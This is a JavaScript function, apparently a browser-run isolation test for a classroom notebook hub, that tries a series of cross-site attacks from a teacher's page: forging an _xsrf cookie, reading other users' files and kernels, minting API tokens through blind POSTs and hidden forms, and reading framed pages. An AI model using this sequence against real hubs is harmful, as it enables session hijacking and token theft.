// A pupil's script in the page of a teacher who looks at the pupil's server: it tries to act as the
// teacher elsewhere in the park. `places` has the addresses; the answer says what each try brought.
async (places) => {
  const seconds = (number) => new Promise((done) => setTimeout(done, number * 1000));
  const tried = async (what) => {
    try {
      return String(await Promise.race([what(), seconds(8).then(() => "nothing came")]));
    } catch (error) {
      return `refused: ${error.name}`;
    }
  };
  const read = (address, more = {}) => tried(async () => {
    const answer = await fetch(address, { credentials: "include", ...more });
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  });
  // What a page may send to strangers without asking them first; it sees no answer.
  const sendBlindly = (address, body, type = "text/plain") => read(
    address, { method: "POST", mode: "no-cors", body, headers: { "Content-Type": type } },
  );
  const sendForm = (address, fields, target) => tried(async () => {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: address, target });
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("input");
      Object.assign(field, { type: "hidden", name, value });
      form.append(field);
    }
    document.body.append(form);
    HTMLFormElement.prototype.submit.call(form);
    await seconds(2);
    return "sent";
  });
  const frame = (address) => tried(async () => {
    const made = document.createElement("iframe");
    const loaded = new Promise((done) => { made.onload = done; });
    made.src = address;
    document.body.append(made);
    await loaded;
    return made.contentWindow.document.body.innerText;
  });
  const open = (address) => tried(async () => {
    const made = window.open(address);
    if (!made) return "no window";
    await seconds(3);
    return made.document.body.innerText;
  });
  const socket = (address) => tried(() => new Promise((done) => {
    const made = new WebSocket(address);
    made.onopen = () => done("open");
    made.onerror = () => done("refused: by the other side");
  }));

  const { hub, portal, other, room, me, mate } = places;
  const stranger = document.createElement("iframe");
  stranger.name = "stranger";
  document.body.append(stranger);
  const out = `${portal}classrooms/${room}/out`;
  const fields = { name: mate, form: "made-up" };
  // A cookie for all names of the park, in the hope that the hub takes it for its own.
  for (const path of ["/", "/hub/"]) {
    document.cookie = `_xsrf=mine; domain=${new URL(hub).hostname}; path=${path}`;
  }
  const found = {
    "cookies": document.cookie,
    "who opened this": String(window.opener),
    "the hub's word on who is here": await read(`${hub}/hub/api/user`),
    "the hub's page": await read(`${hub}/hub/home`),
    "the hub by this very name": await read("/hub/api/user"),
    "the portal's page": await read(`${portal}classrooms/${room}`),
    "the portal by this very name": await read(`/services/portal/classrooms/${room}`),
    "another's files": await read(`${other}api/contents`),
    "another's kernels": await read(`${other}api/kernels`, { method: "POST", body: "{}" }),
    "a token": await sendBlindly(`${hub}/hub/api/users/${me}/tokens?_xsrf=mine`, '{"note": "stolen"}'),
    "another's file, blindly": await sendBlindly(`${other}api/contents?_xsrf=mine`, '{"type": "file"}'),
    "the portal, blindly": await sendBlindly(
      out, new URLSearchParams(fields), "application/x-www-form-urlencoded",
    ),
    "the portal, by a form": await sendForm(out, fields, "stranger"),
    "the portal, by a form in a window": await sendForm(out, fields, "_blank"),
    "a token, by a form": await sendForm(
      `${hub}/hub/api/users/${me}/tokens`, { _xsrf: "mine", note: "stolen" }, "stranger",
    ),
    "another's file, by a form": await sendForm(
      `${other}api/contents`, { _xsrf: "mine", type: "file" }, "stranger",
    ),
    "the hub in a frame": await frame(`${hub}/hub/home`),
    "the portal in a frame": await frame(`${portal}classrooms/${room}`),
    "the hub in a window": await open(`${hub}/hub/home`),
    "the portal in a window": await open(`${portal}classrooms/${room}`),
    "another's kernels, by a socket": await socket(
      `${other.replace("http", "ws")}api/events/subscribe`,
    ),
  };
  for (const path of ["/", "/hub/"]) {
    document.cookie = `_xsrf=; domain=${new URL(hub).hostname}; path=${path}; max-age=0`;
  }
  return found;
}
